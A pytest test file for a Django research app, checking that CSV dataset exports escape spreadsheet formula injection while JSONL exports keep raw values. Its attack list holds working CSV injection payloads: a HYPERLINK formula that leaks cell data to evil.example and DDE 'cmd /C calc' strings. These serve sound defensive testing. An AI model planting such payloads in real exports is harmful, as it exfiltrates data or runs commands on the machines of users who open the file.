"""CSV formula injection: cells a spreadsheet would evaluate are escaped in CSV exports (OWASP), documented in
the README; JSONL keeps the raw values."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.core.management import call_command

from deliberation import services
from deliberation.models import Opinion, Participant
from research.exports import spreadsheet_safe
from research.models import DatasetExport
from tests.research.study import read_export_zip

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for your payment")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 hidden behind a tab",
    "\r=1+1 hidden behind a carriage return",
]


def _export(experiment, out: Path, fmt: str) -> tuple[dict, str]:
    call_command("export_dataset", "--experiment", experiment.slug, "--format", fmt, "--out", str(out / fmt), "--as-user", experiment.owner.username)
    tables, _, readme = read_export_zip(Path(DatasetExport.objects.order_by("-id").first().path), fmt)
    return tables, readme


def test_formulas_in_opinions_and_external_ids_are_escaped_in_csv_only(group, tmp_path: Path) -> None:
    experiment = group[0].participant.room.experiment
    for persona, attack in zip(group, ATTACKS):
        # Written as an attacker would get them into the database (the services strip only controls).
        Opinion.objects.create(round=persona.participant.room.rounds.get(), participant=persona.participant, text=attack)
    Participant.objects.filter(pk=group[0].participant.pk).update(external_id="=cmd|' /C calc'!A0")
    services.participant_join(experiment=experiment, external_id="@evil\u202e")

    tables, readme = _export(experiment, tmp_path, "csv")
    texts = sorted(row["text"] for row in tables["opinions"])
    assert texts == sorted("'" + attack for attack in ATTACKS[:3])
    assert all(not row["text"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in tables["opinions"])
    assert "Spreadsheet safety" in readme and "single quote" in readme

    call_command("export_dataset", "--experiment", experiment.slug, "--format", "csv", "--out", str(tmp_path / "ids"), "--include-external-ids", "--as-user", experiment.owner.username)
    with_ids, _, _ = read_export_zip(Path(DatasetExport.objects.order_by("-id").first().path), "csv")
    assert sorted(row["external_id"] for row in with_ids["participants"] if row["external_id"][:1] == "'") == ["'=cmd|' /C calc'!A0", "'@evil"]

    raw, raw_readme = _export(experiment, tmp_path, "jsonl")
    assert sorted(row["text"] for row in raw["opinions"]) == sorted(ATTACKS[:3])
    assert "Spreadsheet safety" not in raw_readme


def test_numbers_are_not_escaped_and_every_trigger_is() -> None:
    for attack in ATTACKS:
        assert spreadsheet_safe(attack).startswith("'")
    assert spreadsheet_safe("A fair point = a good point") == "A fair point = a good point"
    assert spreadsheet_safe("\x00=1+1") == "'=1+1"  # a NUL in front does not hide the formula
    from research.exports import _csv_cell

    assert _csv_cell(-0.5) == "-0.5" and _csv_cell(-3) == "-3"
